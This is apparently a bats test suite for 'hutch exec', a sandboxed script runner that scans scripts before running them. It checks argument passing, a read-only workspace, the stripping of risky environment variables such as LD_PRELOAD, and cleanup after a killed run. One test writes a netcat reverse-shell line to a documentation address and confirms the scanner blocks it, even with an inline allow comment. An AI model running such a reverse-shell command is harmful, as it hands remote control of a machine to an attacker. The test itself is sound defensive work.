#!/usr/bin/env bats
# hutch exec: scripts, scanned first.
load helper

setup() {
        W=$(mktemp -d "$HUTCH_TMP/exec.XXXXXX")
        cd "$W" || return 1
}
teardown() {
        cd /
        rm -rf "$W"
}

@test "exec: Python, shell and binary scripts get their arguments exactly" {
        printf 'import sys\nprint(sys.argv[1:])\n' >a.py
        run "$HUTCH_BUILD/hutch" exec a.py 'a b' '' "q'\""
        [ "$status" -eq 0 ]
        [ "$output" = "['a b', '', 'q\\'\"']" ]
        printf 'printf "[%%s]" "$@"\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec a.sh 'a b' ''
        [ "$output" = "[a b][]" ]
        cp /bin/echo bin
        run "$HUTCH_BUILD/hutch" exec bin 'a  b'
        [ "$output" = "a  b" ]
}

@test "exec: a critical finding refuses the script before it starts" {
        printf 'echo started\nnc -e /bin/sh 192.0.2.1 1\n' >bad.sh
        run "$HUTCH_BUILD/hutch" exec bad.sh
        [ "$status" -eq 125 ]
        [[ $output == *"bad.sh:2:1: critical: shell-reverse-shell"* && $output != *started* ]]
        run bash -c '"$HUTCH_BUILD/hutch" exec --json bad.sh 2>/dev/null'
        [[ $output == *policy_refused* && $output != *started* ]]
        printf 'nc -e /bin/sh 192.0.2.1 1 # hutch:allow shell-reverse-shell trust me\n' >bad.sh
        run "$HUTCH_BUILD/hutch" exec bad.sh
        [ "$status" -eq 125 ]
}

@test "exec: the workspace is read-only" {
        printf 'touch new 2>/dev/null || echo no\n' >a.sh
        run "$HUTCH_BUILD/hutch" exec a.sh
        [ "$output" = no ]
        [ ! -e new ]
}

@test "exec: variables that choose code are stripped, and refused where they are set" {
        printf 'echo "${PYTHONPATH-none}"\n' >a.sh
        PYTHONPATH=/x run "$HUTCH_BUILD/hutch" exec --env PYTHONPATH a.sh
        [[ $status -eq 125 || $output == none ]]
        run "$HUTCH_BUILD/hutch" exec --env LD_PRELOAD=/x.so a.sh
        [ "$status" -eq 125 ]
        [[ $output == *"'LD_PRELOAD' is never passed"* ]]
        printf 'A=b\nexport BASH_ENV=/x\n' >vars
        run "$HUTCH_BUILD/hutch" exec --env-file vars a.sh
        [ "$status" -eq 125 ]
}

@test "exec: {baseDir} is the skill's directory, attached read-only" {
        mkdir skill && echo data >skill/f
        mkdir w && printf 'cat "$1/f"; touch "$1/g" 2>/dev/null || echo ro\n' >w/a.sh
        cd w
        run "$HUTCH_BUILD/hutch" exec --skill-dir ../skill a.sh '{baseDir}'
        [ "$output" = $'data\nro' ]
}

@test "exec: the private copy is gone afterwards, and after SIGKILL by the next start" {
        export XDG_RUNTIME_DIR=$W/run
        mkdir -m 700 run w && cd w && printf 'sleep ${1:-0}\n' >a.sh
        "$HUTCH_BUILD/hutch" exec a.sh
        [ -z "$(ls ../run)" ]
        "$HUTCH_BUILD/hutch" exec a.sh 30 3>&- &
        pid=$!
        for _ in {1..100}; do [ -z "$(ls ../run)" ] || break; sleep 0.1; done
        [ -n "$(ls ../run)" ]
        kill -9 $pid
        wait $pid || true
        "$HUTCH_BUILD/hutch" exec a.sh
        [ -z "$(ls ../run)" ]
}
